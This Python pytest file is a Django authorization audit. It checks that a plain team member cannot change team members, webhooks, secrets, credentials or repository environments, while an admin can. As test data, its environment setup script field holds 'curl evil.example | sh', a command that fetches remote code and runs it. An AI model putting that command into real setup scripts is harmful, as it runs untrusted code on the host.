"""Team settings are for team admins (the authorization audit of session 7): every route that
changes a team's members, invitations, domain lists, webhooks, repositories or their
environments (setup, secrets, credentials, cache), on the pages and in the API, refuses bob, a
plain member of Acme — nothing changes, no job is queued — while the very same request from
alice, Acme's admin, does change something (so the refusal is not a bad form in disguise).
"""

from __future__ import annotations

import json
from typing import Any

import pytest
from django.db import transaction
from django.test import Client

from codexweb.accounts.models import Membership
from codexweb.api.tokens import api_token_create
from tests.security.route_walk import (
    Route,
    all_routes,
    database_state,
    ids_for,
    make_world,
    url_for,
)
from tests.support import factories
from tests.support.celery_queue import queue_clear, queued_jobs

pytestmark = pytest.mark.django_db

HOOK = "https://93.184.216.34/codexweb-hook"
# What an admin's form or JSON body holds, by route name (page routes: form fields; API: JSON).
REQUESTS: dict[str, tuple[str, dict[str, Any]]] = {
    "accounts:invite_new": ("post", {"kind": "email", "invitee": "eve@example.test",
                                     "role": "admin"}),
    "accounts:invite_withdraw": ("post", {}),
    "accounts:member_role": ("post", {"role": "admin"}),
    "accounts:member_remove": ("post", {}),
    "accounts:domain_lists": ("post", {"name": "more", "domains": "pypi.org"}),
    "accounts:domain_list_edit": ("post", {"name": "renamed", "domains": "pypi.org"}),
    "accounts:domain_list_delete": ("post", {}),
    "notifications:webhooks": ("post", {"url": HOOK}),
    "notifications:webhook_delete": ("post", {}),
    "notifications:webhook_redeliver": ("post", {}),
    "repos:disconnect": ("post", {}),
    "repos:disconnect_org": ("post", {}),
    "repos:environment": ("post", {"setup_script": "curl evil.example | sh",
                                   "internet_policy": "on", "setup_internet_policy": "on",
                                   "cache_ttl_hours": "12", "variables": "",
                                   "allowed_domains": "", "setup_allowed_domains": "",
                                   "maintenance_script": "", "path_prefix": "", "image": ""}),
    "repos:secret_save": ("post", {"name": "STOLEN", "value": "v"}),
    "repos:secret_delete": ("post", {}),
    "repos:credential_save": ("post", {"name": "n2", "domain": "pypi.org", "kind": "bearer",
                                       "value": "t0ken-value"}),
    "repos:credential_delete": ("post", {}),
    "repos:cache_reset": ("post", {}),
    "api:credentials": ("post", {"name": "n3", "domain": "pypi.org", "kind": "bearer",
                                 "value": "t0ken-value"}),
    "api:credential": ("delete", {}),
    "api:webhooks": ("post", {"url": HOOK}),
    "api:webhook": ("delete", {}),
    "api:webhook_redeliver": ("post", {}),
}


@pytest.fixture
def acme_world(acme, alice, bob) -> dict[str, Any]:
    world = make_world(acme, alice, bob, "ad12")
    # Leaving is every member's right: the removal tried is of dave, another admin.
    world["other_admin"] = factories.add_member(acme, factories.make_user("dave"),
                                                role=Membership.Role.ADMIN)
    return world


def admin_routes() -> list[Route]:
    routes = [r for r in all_routes() if f"{_namespace(r)}:{r.name}" in REQUESTS]
    assert len(routes) == len(REQUESTS)  # every listed route still exists
    return routes


def _namespace(route: Route) -> str:
    if route.is_api:
        return "api"
    if route.route.startswith("accounts/team/webhooks/"):
        return "notifications"
    if route.route.startswith("accounts/"):
        return "accounts"
    return "repos" if route.route.startswith("repositories/") else "?"


def send(route: Route, world: dict[str, Any], page: Client, api: Client) -> int:
    method, data = REQUESTS[f"{_namespace(route)}:{route.name}"]
    ids = ids_for(route, world) or {}
    if route.name == "member_remove":
        ids["pk"] = world["other_admin"].pk
    url = url_for(route, ids)
    if route.is_api:
        response = getattr(api, method)(url, data=json.dumps(data),
                                        content_type="application/json")
    else:
        response = page.post(url, data)
    return response.status_code


def changed_anything(before: dict[str, Any], tokens: list[int]) -> bool:
    return database_state(*tokens) != before or bool(queued_jobs())


def test_a_plain_member_changes_no_team_setting_an_admin_can(acme_world, alice, bob,
                                                             empty_queue):
    clients, tokens = {}, []
    for person in (alice, bob):
        page = Client()
        page.force_login(person)
        token = api_token_create(user=person, name="laptop")
        tokens.append(token.token.pk)
        clients[person.username] = (page, Client(HTTP_AUTHORIZATION=f"Bearer {token.secret}"))
    refused_wrongly, admin_could_not = [], []
    for route in admin_routes():
        before = database_state(*tokens)
        status = send(route, acme_world, *clients["bob"])
        if changed_anything(before, tokens):
            refused_wrongly.append(f"{route.route} (bob got {status})")
        queue_clear()
        with transaction.atomic():
            send(route, acme_world, *clients["alice"])
            if not changed_anything(before, tokens):
                admin_could_not.append(route.route)
            transaction.set_rollback(True)
        queue_clear()
    assert refused_wrongly == []
    assert admin_could_not == []
